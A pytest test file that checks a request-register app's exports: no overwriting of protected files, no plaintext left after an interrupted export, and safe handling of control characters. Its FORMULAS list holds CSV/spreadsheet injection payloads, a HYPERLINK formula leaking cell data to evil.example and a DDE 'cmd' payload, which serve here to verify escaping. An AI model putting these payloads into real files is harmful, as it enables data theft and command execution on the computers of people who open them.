"""Outputs (exports, evidence packs) never replace what they should not, keep formulas out of
spreadsheet cells, leave no plaintext outside the target's folder, and survive control
characters already in the register (issue 17, items 4, 8, 9, 14)."""

from __future__ import annotations

import csv
import os
import stat
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest
from docx import Document
from openpyxl import load_workbook

from app.letters.errors import LetterError
from app.letters.exports import evidence_pack, export_register
from app.letters.outputs import PARTIAL_PREFIX, remove_partial_outputs
from tests.builders import PASSPHRASE, add_request, new_register
from tests.cli.helpers import ROOT, run_cli
from tests.portable import IS_ROOT, KILL

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A2,"Click to verify")',
            "=cmd|' /C calc'!A0", "+SUM(1,2)", "-2+3", "@SUM(A1)"]


@pytest.fixture
def reg(tmp_path):
    register = new_register(tmp_path)
    add_request(register, name="Ахметова Айгерим")
    yield register
    register.close()


# ------------------------------------------------------------------ what is never replaced
@pytest.fixture
def db(tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("OTINISH_PASSPHRASE", PASSPHRASE)
    path = tmp_path / "register.otinish"
    assert run_cli(capsys, "--db", str(path), "init").code == 0
    assert run_cli(capsys, "--db", str(path), "add", "--channel", "email", "--type", "access",
                   "--name", "Ахметова Айгерим").code == 0
    return path


def _one_sentence(result) -> str:
    assert result.code == 2, result
    assert "Traceback" not in result.err
    assert len(result.err.strip().splitlines()) == 1, result.err
    return result.err


@pytest.mark.parametrize("force", [(), ("--force",)])
def test_export_never_replaces_the_register_even_with_force(db, capsys, force):
    before = db.read_bytes()
    err = _one_sentence(run_cli(capsys, "--db", str(db), "export", "--format", "csv",
                                "--out", str(db), *force))
    assert "register, a backup" in err
    assert db.read_bytes() == before
    for sibling in (f"{db}.lock", f"{db}-wal", f"{db}-shm", str(db.with_name("other.otinish"))):
        Path(sibling).write_bytes(b"keep")
        err = _one_sentence(run_cli(capsys, "--db", str(db), "export", "--format", "csv",
                                    "--out", sibling, *force))
        assert "never replaces" in err
        assert not Path(sibling).exists() or "Ахметова".encode() not in Path(
            sibling).read_bytes()


def test_evidence_never_replaces_a_backup_even_with_force(db, capsys, tmp_path):
    backup = tmp_path / "only.otinish-backup"
    assert run_cli(capsys, "--db", str(db), "backup", "--out", str(backup)).code == 0
    before = backup.read_bytes()
    for name in (backup, tmp_path / "copy.backup"):
        name.write_bytes(before)
        err = _one_sentence(run_cli(capsys, "--db", str(db), "evidence", "1", "--out",
                                    str(name), "--force"))
        assert "never replaces" in err
        assert name.read_bytes() == before


def test_nothing_in_the_backup_folder_is_replaced(db, capsys, tmp_path):
    folder = tmp_path / "backups"
    folder.mkdir()
    assert run_cli(capsys, "--db", str(db), "--json", "info").code == 0
    from app.store import Register

    with Register.open(db, PASSPHRASE) as r:
        r.set_setting("backup_folder", str(folder))
    kept = folder / "notes.txt"
    kept.write_text("mine")
    err = _one_sentence(run_cli(capsys, "--db", str(db), "export", "--format", "csv",
                                "--out", str(kept), "--force"))
    assert "never replaces" in err
    assert kept.read_text() == "mine"


@pytest.mark.skipif(not IS_ROOT, reason="only root makes device nodes")
def test_a_device_is_never_replaced(db, capsys, tmp_path):
    device = tmp_path / "null"  # our own /dev/null: a failing test harms no machine
    os.mknod(device, stat.S_IFCHR | 0o666, os.makedev(1, 3))
    for force in ((), ("--force",)):
        err = _one_sentence(run_cli(capsys, "--db", str(db), "export", "--format", "csv",
                                    "--out", str(device), *force))
        assert "not an ordinary file" in err
        assert stat.S_ISCHR(os.lstat(device).st_mode)


def test_a_link_or_folder_is_refused(db, capsys, tmp_path):
    real = tmp_path / "real.csv"
    real.write_text("mine")
    link = tmp_path / "link.csv"
    link.symlink_to(real)
    err = _one_sentence(run_cli(capsys, "--db", str(db), "export", "--format", "csv",
                                "--out", str(link), "--force"))
    assert "not an ordinary file" in err
    assert link.is_symlink() and real.read_text() == "mine"
    err = _one_sentence(run_cli(capsys, "--db", str(db), "export", "--format", "csv",
                                "--out", str(tmp_path), "--force"))
    assert "is a folder" in err


def test_an_existing_file_is_replaced_only_with_force(db, capsys, tmp_path):
    out = tmp_path / "old.csv"
    out.write_text("old")
    err = _one_sentence(run_cli(capsys, "--db", str(db), "export", "--format", "csv", "--out",
                                str(out)))
    assert "--force" in err and out.read_text() == "old"
    assert run_cli(capsys, "--db", str(db), "export", "--format", "csv", "--out", str(out),
                   "--force").code == 0
    assert "Ахметова" in out.read_text(encoding="utf-8-sig")
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(PARTIAL_PREFIX)]


def test_the_service_takes_an_overwrite_flag(reg, tmp_path):
    out = tmp_path / "e.zip"
    out.write_text("old")
    with pytest.raises(LetterError) as raised:
        evidence_pack(reg, 1, out)
    assert raised.value.code == "output_exists"
    evidence_pack(reg, 1, out, overwrite=True)
    assert zipfile.is_zipfile(out)
    assert stat.S_IMODE(out.stat().st_mode) == 0o600


# ------------------------------------------------------------------ formulas stay text
@pytest.fixture
def hostile(tmp_path):
    register = new_register(tmp_path)
    for name in FORMULAS:
        register.add_request(channel="email", types=["access"], name=name,
                             email="=1+1@example.com", phone="+7 705 123 45 67", lang="ru")
    yield register
    register.close()


def test_csv_cells_that_start_a_formula_get_an_apostrophe(hostile, tmp_path):
    out = tmp_path / "r.csv"
    export_register(hostile, "csv", out, lang="en")
    rows = list(csv.reader(out.read_text(encoding="utf-8-sig").splitlines()))[1:]
    assert [r[3] for r in rows] == ["'" + f for f in FORMULAS]
    assert {r[4] for r in rows} == {"'=1+1@example.com"}
    assert {r[5] for r in rows} == {"'+7 705 123 45 67"}


def test_xlsx_cells_that_start_a_formula_are_strings(hostile, tmp_path):
    out = tmp_path / "r.xlsx"
    export_register(hostile, "xlsx", out, lang="en")
    with zipfile.ZipFile(out) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet  # no formula anywhere
    ws = load_workbook(out).active
    cells = [ws.cell(row=r, column=c) for r in range(2, 2 + len(FORMULAS)) for c in (4, 5, 6)]
    assert all(cell.data_type == "s" for cell in cells)
    assert [ws.cell(row=r, column=4).value for r in range(2, 2 + len(FORMULAS))] == FORMULAS
    assert ws.cell(row=2, column=6).value == "+7 705 123 45 67"  # no apostrophe needed


# ------------------------------------------------------------------ control characters
def test_control_characters_in_the_register_do_not_break_any_output(tmp_path):
    register = new_register(tmp_path)
    try:
        rid = register.add_request(channel="email", types=["access"],
                                   name="Bad\x00\x1b[2J\u202eName\x07", lang="en",
                                   text="line\x00one\nline two")
        register.record_action(rid, "searched", "found\x0b it")
        for fmt in ("xlsx", "docx", "csv"):
            export_register(register, fmt, tmp_path / f"r.{fmt}", lang="en")
        assert load_workbook(tmp_path / "r.xlsx").active["D2"].value == "Bad[2JName"
        assert "Bad[2JName" in Document(str(tmp_path / "r.docx")).tables[0].rows[1].cells[3].text
        evidence_pack(register, rid, tmp_path / "e.zip")
        with zipfile.ZipFile(tmp_path / "e.zip") as z:
            assert "summary.docx" in z.namelist()
    finally:
        register.close()


# ------------------------------------------------------------------ no plaintext elsewhere
_EXPORT = """
import sys
import time
from app.store import Register
from app.services import exports
reg = Register.open(sys.argv[1], sys.argv[2])
rows = reg.export_rows
def slow(**kw):
    for i, row in enumerate(rows(**kw)):
        if i == 300:
            print("started", flush=True)
        if i >= 300:
            time.sleep(0.002)
        yield row
reg.export_rows = slow
exports.export_register(reg, sys.argv[3], sys.argv[4])
print("finished", flush=True)
"""


@pytest.mark.slow
@pytest.mark.parametrize("fmt", ["xlsx", "csv", "docx"])
def test_an_export_killed_mid_way_leaves_no_plaintext_outside_its_folder(tmp_path, fmt):
    register = new_register(tmp_path)
    marker = "Zzyzx"
    try:
        for i in range(3000):
            register.add_request(channel="email", types=["access"], name=f"{marker} {i:05}",
                                 email=f"{marker.lower()}{i}@example.kz", lang="ru")
    finally:
        register.close()
    system_tmp = tmp_path / "system-tmp"
    out_dir = tmp_path / "out"
    system_tmp.mkdir()
    out_dir.mkdir()
    env = {**os.environ, "TMPDIR": str(system_tmp), "PYTHONPATH": str(ROOT)}
    proc = subprocess.Popen([sys.executable, "-c", _EXPORT, str(tmp_path / "register.otinish"),
                             PASSPHRASE, fmt, str(out_dir / f"r.{fmt}")], cwd=ROOT, env=env,
                            stdout=subprocess.PIPE, text=True)
    assert proc.stdout.readline().strip() == "started"
    time.sleep(0.3)
    proc.send_signal(KILL)
    proc.wait()

    def holding(folder: Path) -> list[Path]:
        return [p for p in folder.rglob("*") if p.is_file()
                and (marker.encode() in p.read_bytes() or marker.lower().encode()
                     in p.read_bytes())]

    assert holding(system_tmp) == []
    assert not (out_dir / f"r.{fmt}").exists()
    left = list(out_dir.iterdir())
    assert all(p.name.startswith(PARTIAL_PREFIX) for p in left)
    assert all(stat.S_IMODE(p.stat().st_mode) == 0o700 for p in left)
    assert remove_partial_outputs(out_dir) == len(left)
    assert holding(out_dir) == [] and list(out_dir.iterdir()) == []
